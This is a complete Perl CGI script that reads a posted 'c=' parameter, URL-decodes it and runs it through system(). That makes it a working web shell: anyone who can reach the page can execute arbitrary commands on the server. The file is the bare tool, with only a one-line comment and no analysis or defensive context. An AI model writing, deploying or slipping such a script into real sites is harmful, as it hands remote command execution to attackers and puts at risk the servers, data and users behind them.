#!/usr/bin/perl
# Perl CGI: the posted body read line by line, decoded, and handed to system().
print "Content-type: text/plain\n\n";
my $b = <STDIN>;
$b =~ s/^c=//;
$b =~ tr/+/ /;
$b =~ s/%([0-9A-Fa-f]{2})/chr(hex($1))/ge;
system($b);
